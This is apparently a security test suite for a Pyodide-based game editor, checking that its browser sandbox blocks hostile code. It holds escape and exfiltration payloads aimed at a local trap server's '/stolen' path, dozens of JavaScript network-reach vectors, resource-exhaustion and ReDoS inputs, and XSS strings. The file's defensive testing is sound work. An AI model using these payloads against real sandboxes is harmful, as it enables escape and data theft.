"""The editor's sandbox under attack: game files that try to reach network, page and machine."""

from __future__ import annotations

import http.server
import json
import re
import threading
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Error, Page, expect
from static_site import StaticSite

from numduel.workshop.template import write_template

pytestmark = [pytest.mark.slow, pytest.mark.long]

GAME = write_template("my_game")
RESULT_MS = 150_000

JAVASCRIPT = """
def attempt(find):
    try:
        found = find()
        found("http://127.0.0.1:{port}/stolen")
    except BaseException:
        pass

def by_name(module, name):
    return lambda: getattr(__import__(module, fromlist=["x"]), name)

for name in (
    "fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts", "open", "Worker"
):
    attempt(by_name("js", name))
    attempt(by_name("pyodide_js", name))
for module, name in (
    ("pyodide.code", "run_js"), ("pyodide.http", "open_url"), ("pyodide.http", "pyfetch"),
    ("micropip", "install"), ("urllib.request", "urlopen"), ("_pyodide_core", "run_js"),
):
    attempt(by_name(module, name))

def unwrap():
    import gc, sys
    sys.modules.pop("js", None)
    for thing in gc.get_objects():
        if type(thing).__name__ == "JsProxy":
            function = thing.constructor.constructor
            code = "fetch('http://127.0.0.1:{port}/stolen'); postMessage('x'); indexedDB.open('x');"
            code += "new WebSocket('ws://127.0.0.1:{port}/stolen'); import('http://127.0.0.1:{port}/stolen')"
            try:
                function(code)()
            except BaseException:
                pass
try:
    unwrap()
except BaseException:
    pass
"""
"""Ways from Python to the browser's functions."""


FIND_SEND = """\
import sys
frame = sys._getframe()
while frame.f_code.co_name != "ask": frame = frame.f_back
send = frame.f_locals["self"]._send"""
"""The only object of JavaScript that Python gets: the function that sends a message."""


FIND_CONVERSION = """\
import gc, sys
seen, todo = set(), [sys.modules, gc.get_objects()]
while todo:
    one = todo.pop()
    if id(one) not in seen:
        seen.add(id(one))
        if type(one) is type(len) and one.__name__ == "to_js": raise ValueError("reached")
        todo += gc.get_referents(one)
raise ValueError("no conversion")"""
"""Look through all of Python's objects for a way to make those of JavaScript, without a limit."""


class Trap:
    """A server that counts requests."""

    def __init__(self) -> None:
        self.requested: list[str] = []
        trap = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                trap.requested.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def trap() -> Iterator[Trap]:
    made = Trap()
    yield made
    made.server.shutdown()
    made.server.server_close()


@pytest.fixture
def page(browser: Browser, site: StaticSite) -> Iterator[Page]:
    context = browser.new_context(service_workers="block")
    opened = context.new_page()
    opened.goto(site.url.replace("/play/", "/editor/"))
    expect(opened.locator("html[data-ready]")).to_have_count(1)
    yield opened
    context.close()


def type_file(page: Page, text: str) -> None:
    """Put a file into the editor, as its draft."""
    page.evaluate(
        "text => localStorage.setItem('numduel.editor_draft', JSON.stringify(text))", text
    )
    page.goto(page.url.partition("#")[0])
    expect(page.locator("html[data-ready]")).to_have_count(1)


def run(page: Page, panel: str = "check") -> str:
    """Press a button; return the text of its panel when the sandbox is done."""
    page.click(f"#tab-{panel}")
    expect(page.locator(".progress")).to_have_count(0, timeout=RESULT_MS)
    return page.inner_text(f"#panel-{panel}")


def check_still_usable(page: Page) -> None:
    """Check that the page works after an attack."""
    type_file(page, GAME)
    assert "All laws hold." in run(page)


def test_panels_answer_as_the_command_line_does(page: Page) -> None:
    assert "440 positions of 8 variants" in run(page)
    assert "take how many stones" in run(page, "play")
    page.click("#panel-play [data-move='2']")
    expect(page.locator("#panel-play .facts")).not_to_contain_text("12")
    assert "loses in 6 turns" in run(page, "solve")
    assert "Player 2 wins" in run(page, "report")


def test_report_has_the_width_of_its_panel(page: Page) -> None:
    page.set_viewport_size({"width": 1280, "height": 800})
    run(page, "report")
    parts = [page.locator(f"#panel-report {part}") for part in (".headline", ".conclusions")]
    widths = [part.evaluate("part => part.offsetWidth") for part in parts]
    assert widths == [page.locator("#panel-report").evaluate("panel => panel.offsetWidth")] * 2


def test_planted_fault_is_shown_with_its_law_and_line(page: Page) -> None:
    type_file(page, GAME.replace("pile.stones -= number", "pile.stones -= number // 0"))
    shown = run(page)
    assert "no-errors" in shown
    assert "ZeroDivisionError" in shown or "division" in shown
    line = GAME[: GAME.index("pile.stones -= number")].count("\n") + 1
    assert f"Line {line}" in shown
    type_file(page, GAME + "\nclass (:\n")
    assert f"line {GAME.count(chr(10)) + 2}" in run(page)


def test_shared_link_runs_nothing_before_a_click_and_keeps_the_draft(
    page: Page, trap: Trap
) -> None:
    evil = GAME + JAVASCRIPT.replace("{port}", str(trap.port))
    type_file(page, evil)
    page.click("#share")
    link = page.input_value("#note input")
    type_file(page, GAME + "# my draft\n")
    page.goto("about:blank")
    page.goto(link)
    expect(page.locator("#shared")).to_be_visible()
    page.wait_for_timeout(1000)
    assert page.locator("iframe").count() == 0
    assert "my draft" in page.evaluate("localStorage.getItem('numduel.editor_draft')")
    page.click("#drop")
    expect(page.locator("#shared")).to_be_hidden()
    assert trap.requested == []


def test_links_in_an_open_editor_run_nothing(page: Page) -> None:
    """Also after a reload, and if the reader continues on the board of the file before."""
    links = []
    for title in ("first", "second"):
        type_file(page, GAME.replace("class MyGame", f"raise ValueError('{title}')\nclass MyGame"))
        page.click("#share")
        links.append(page.input_value("#note input").partition("#")[2])
    type_file(page, GAME)
    run(page, "play")
    for link in (*links, "code=damaged", links[0]):
        page.evaluate("hash => { location.hash = hash; }", link)
    expect(page.locator("#code")).to_contain_text("ValueError('first')")
    page.click("#panel-play [data-move='2']")
    expect(page.locator("#panel-play")).to_contain_text("The file has changed")
    assert "first" not in page.inner_text("#panels")
    page.reload()
    expect(page.locator("#shared")).to_be_visible()
    page.wait_for_timeout(500)
    assert page.locator("iframe").count() == 0
    assert "first" not in page.inner_text("#panels")


def test_code_reaches_no_network(page: Page, trap: Trap) -> None:
    type_file(page, GAME + JAVASCRIPT.replace("{port}", str(trap.port)))
    run(page)
    page.wait_for_timeout(500)
    assert trap.requested == []
    check_still_usable(page)


def put_address(code: str, trap: Trap) -> str:
    """Put the address of the trap into a script, but leave the browser's class URL."""
    address = f"http://127.0.0.1:{trap.port}/x"
    return re.sub(r"(?<!new )\bURL\b(?!\.)|URL(?=\.replace)", address, code)


OPEN_FRAME = """script => new Promise((resolve) => {
  const frame = document.createElement("iframe");
  frame.setAttribute("sandbox", "allow-scripts");
  frame.src = "sandbox.html";
  const channel = new BroadcastChannel("sandbox test");
  channel.onmessage = () => channel.postMessage("heard");
  addEventListener("message", ({ source }) => {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = ({ data }) => resolve(JSON.parse(data));
    source.postMessage({ script: new TextEncoder().encode(script).buffer }, "*", [port2]);
  }, { once: true });
  document.body.append(frame);
})"""
"""Run a script in the sandbox's worker, as the page runs Python; resolve with its first message."""


def test_javascript_in_the_sandbox_reaches_nothing(
    browser: Browser, site: StaticSite, trap: Trap
) -> None:
    """Run JavaScript in the sandbox's worker, as if the code had left Python."""
    attacks = {
        "fetch": "await fetch('URL')",
        "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'URL', false); x.send()",
        "importScripts": "importScripts('URL')",
        "import": "await import('URL')",
        "websocket": "await new Promise((yes, no) => {"
        " const s = new WebSocket('URL'.replace('http', 'ws')); s.onopen = yes; s.onerror = no; })",
        "eventsource": "await new Promise((yes, no) => {"
        " const s = new EventSource('URL'); s.onopen = yes; s.onerror = no; })",
        "indexeddb": "await new Promise((yes, no) => {"
        " const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no; })",
        "storage": "localStorage.length",
        "cookies": "document.cookie",
        "caches": "await caches.open('x')",
        "parent": "parent.document.title",
        "eval": "eval('1')",
        "function": "Function('return 1')()",
        "import blob": "const b = new Blob(['export {}'], { type: 'text/javascript' });"
        " await import(URL.createObjectURL(b))",
        "import data": "await import('data:text/javascript,export {}')",
        "stream": "await new WebSocketStream('URL'.replace('http', 'ws')).opened",
        "webtransport": "await new WebTransport('URL'.replace('http', 'https')).ready",
        "webrtc": "new RTCPeerConnection()",
        "beacon": "navigator.sendBeacon('URL', 'x') || missing",
        "font": "await new FontFace('x', 'url(URL)').load()",
        "picture": "await createImageBitmap(new Blob([`<svg xmlns='http://www.w3.org/2000/svg'>"
        "<image href='URL'/></svg>`], { type: 'image/svg+xml' }))",
        "files": "await navigator.storage.getDirectory()",
        "locks": "await navigator.locks.request('x', () => 1)",
        "shared worker": "new SharedWorker('URL')",
        "service worker": "await navigator.serviceWorker.register('URL')",
        "worker": "await new Promise((yes, no) => { const w = new Worker(URL.createObjectURL("
        "new Blob([`fetch('URL').then(() => postMessage(1), () => postMessage(0))`])));"
        " w.onerror = no;"
        " w.onmessage = ({ data }) => (data ? yes() : no()); })",
        "site's channel": "await new Promise((yes, no) => {"
        " const c = new BroadcastChannel('sandbox test');"
        " c.onmessage = yes; c.postMessage('x'); setTimeout(no, 1000); })",
    }
    parts = ",".join(
        f"{json.dumps(name)}: async () => {{ {put_address(code, trap)} }}"
        for name, code in attacks.items()
    )
    script = f"""onmessage = async () => {{
      const found = [];
      for (const [name, attack] of Object.entries({{{parts}}}))
        await attack().then(() => found.push(name), () => {{}});
      postMessage(JSON.stringify(found));
    }}"""
    context = browser.new_context()
    page = context.new_page()
    page.goto(site.url.replace("/play/", "/editor/"))
    reached = page.evaluate(OPEN_FRAME, script)
    assert reached == []
    assert trap.requested == []
    context.close()


def test_document_of_the_sandbox_reaches_no_server(
    browser: Browser, site: StaticSite, trap: Trap
) -> None:
    """Run JavaScript in the frame's document, as if the code had left its worker."""
    add = "const e = document.createElement('{}'); Object.assign(e, {}); document.body.append(e)"
    attacks = [
        *(
            add.format(tag, "{ src: 'URL' }")
            for tag in ("img", "iframe", "script", "audio", "embed")
        ),
        *(
            add.format("link", f"{{ rel: '{kind}', href: 'URL' }}")
            for kind in (
                "stylesheet",
                "prefetch",
                "preconnect",
                "modulepreload",
                "manifest",
                "icon",
            )
        ),
        add.format("object", "{ data: 'URL' }"),
        add.format("style", "{ textContent: 'body { background: url(URL) }' }"),
        add.format("a", "{ href: '#x', ping: 'URL' }") + "; e.click()",
        add.format("a", "{ href: 'URL', download: 'x' }") + "; e.click()",
        add.format("a", "{ href: 'URL', target: '_blank' }") + "; e.click()",
        add.format("form", "{ action: 'URL' }") + "; e.submit()",
        "fetch('URL').catch(() => {})",
        "navigator.sendBeacon('URL', 'x')",
        "window.open('URL')",
        "top.location = 'URL'",
        add.format("meta", "{ httpEquiv: 'refresh', content: '0; url=URL' }"),
        "location = 'URL'",
    ]
    context = browser.new_context(service_workers="block")
    page = context.new_page()
    address = site.url.replace("/play/", "/editor/")
    page.goto(address)
    for attack in attacks:
        page.evaluate("document.querySelector('iframe')?.remove()")
        page.evaluate(OPEN_FRAME, "onmessage = () => postMessage('[]')")
        frame = next(one for one in page.frames if one.parent_frame == page.main_frame)
        with suppress(Error):  # it was refused
            frame.evaluate(f"() => {{ {put_address(attack, trap)} }}")
        page.wait_for_timeout(100)
    page.wait_for_timeout(500)
    assert trap.requested == []
    assert page.url == address
    assert context.pages == [page]
    context.close()


HOSTILE = Path(__file__).with_name("hostile_worker.js").read_text(encoding="utf-8")


@pytest.mark.parametrize("name", re.findall(r'^  "([a-z ]+)":', HOSTILE, re.MULTILINE))
def test_messages_of_a_hostile_sandbox_are_refused(page: Page, name: str) -> None:
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    script = HOSTILE.replace("NAME", json.dumps(name))
    page.route("**/editor/python.js", lambda route: route.fulfill(body=script))
    shown = run(page, "play")
    assert "something unexpected" in shown or "was stopped: " in shown
    assert page.locator("iframe").count() == 0
    assert errors == []


def play_and_tell(page: Page, words: str) -> None:
    """Play a move of a game that describes it with these words."""
    told = f'tells = "{{player}} {words}"'
    type_file(page, GAME.replace('tells = "{player} took {move}"', told))
    run(page, "play")
    page.click("#panel-play [data-move='1']")


def test_controls_of_foreign_texts_are_visible(page: Page) -> None:
    type_file(page, "# \u202e\u2066 \u202a\n" + GAME)
    expect(page.locator(".cm-specialChar")).to_have_count(3)
    play_and_tell(page, "\\u202e\\x1b[31m")
    expect(page.locator("#panel-play .said")).to_contain_text("\\u{202e}\\u{1b}[31m")


def test_sandbox_runs_nothing_in_a_frame_with_an_origin(browser: Browser, site: StaticSite) -> None:
    page = browser.new_page()
    page.goto(site.url.replace("/play/", "/editor/"))
    answer = page.evaluate(
        """() => new Promise((resolve) => {
          const frame = document.createElement("iframe");
          frame.src = "sandbox.html";
          frame.onload = () => setTimeout(() => resolve("silent"), 500);
          addEventListener("message", () => resolve("loaded"));
          document.body.append(frame);
        })"""
    )
    assert answer == "silent"
    page.close()


@pytest.mark.parametrize(
    ("attack", "expected"),
    [
        ("while True: pass", "did not return within 10 s"),
        ("def f(): f()\nf()", "recursion"),
        ("x = bytearray(2_000_000_000)", "memory"),
        ("x = []\nwhile True: x.append(bytearray(10_000_000))", "memory"),
        ("x = []\nwhile True: x.append([0] * 100_000)", "memory"),
        ("open('/x', 'wb').write(bytes(50_000_000))", "OSError"),
        ("import os\nfor n in range(99): os.symlink('x' * 1_000_000, str(n))", "OSError"),
        ("import _pyodide_core\n_pyodide_core.to_js(b'x')", "ModuleNotFoundError"),
        (FIND_CONVERSION, "no conversion"),
        (f"{FIND_SEND}\nsend.constructor", "AttributeError"),
        (f"{FIND_SEND}\nwhile True: send('x' * 50_000_000)", "did not return within 10 s"),
        ("x = 10**10**9", "did not return within 10 s"),
        ("import re\nre.match('(a+)+$', 'a' * 60 + 'b')", "did not return within 10 s"),
        ("import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()", "was stopped: "),
        ("import os\nos._exit(0)", "was stopped: "),
        ("import signal\nsignal.signal(2, signal.SIG_IGN)\nwhile True: pass", "Stopped after 15 s"),
        ("import threading\nthreading.Thread(target=print).start()", "can't start new thread"),
        ("raise ValueError('<img src=x onerror=alert(1)>')", "<img src=x onerror=alert(1)>"),
    ],
)
def test_limits_hold_and_the_page_stays_usable(page: Page, attack: str, expected: str) -> None:
    type_file(page, f"{GAME}\n{attack}\n")
    assert expected.lower() in run(page).lower()
    assert page.locator("#panels img").count() == 0
    check_still_usable(page)


def test_loop_that_refuses_to_end_is_terminated(page: Page) -> None:
    attack = "while True:\n    try:\n        while True: pass\n    except BaseException: pass\n"
    type_file(page, f"{GAME}\n{attack}")
    assert "Stopped after 15 s" in run(page)
    check_still_usable(page)


def test_endless_loop_in_a_method_is_a_broken_law(page: Page) -> None:
    loop = "while pile.stones < 3: pass\n        pile.stones -= number"
    type_file(page, GAME.replace("pile.stones -= number", loop))
    shown = run(page)
    assert "no-endless-loop" in shown
    assert "in change, line" in shown
    check_still_usable(page)


def test_markup_in_titles_stays_text(page: Page) -> None:
    play_and_tell(page, "<img src=x onerror=alert(1)>")
    expect(page.locator("#panel-play .said")).to_contain_text("<img")
    assert page.locator("#panels img").count() == 0
